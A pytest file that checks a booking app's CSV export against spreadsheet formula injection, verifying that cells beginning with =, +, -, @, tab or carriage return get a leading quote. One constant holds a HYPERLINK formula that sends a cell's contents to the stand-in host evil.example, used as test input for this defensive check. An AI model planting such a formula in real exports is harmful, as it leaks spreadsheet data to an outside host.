"""No cell of a CSV the project writes can start a formula in a spreadsheet."""

import csv
import io

import pytest

from booking.spreadsheet import csv_writer, neutralise
from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"婚姻家庭")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800138000", "'+8613800138000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("婚姻家庭", "婚姻家庭"),
        ("a=1", "a=1"),
        (7, "7"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote_first(value, written):
    assert neutralise(value) == written


def test_the_writer_neutralises_every_cell_and_quotes_as_csv_does():
    out = io.StringIO()
    csv_writer(out).writerows([["area", HYPERLINK], ["=x", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["area", "'" + HYPERLINK],
        ["'=x", "3"],
    ]


@pytest.mark.django_db
@pytest.mark.usefixtures("plain_http", "frozen_clock")
def test_an_area_named_as_a_formula_is_plain_text_in_the_figures_csv(client, office, lawyer, topic):
    topic.name_zh_hans = topic.name_en = HYPERLINK
    topic.save()
    client.force_login(
        UserFactory(role="office_admin", office=office, phone=None, phone_verified=False)
    )
    body = client.get("/desk/figures.csv").content.decode("utf-8").removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
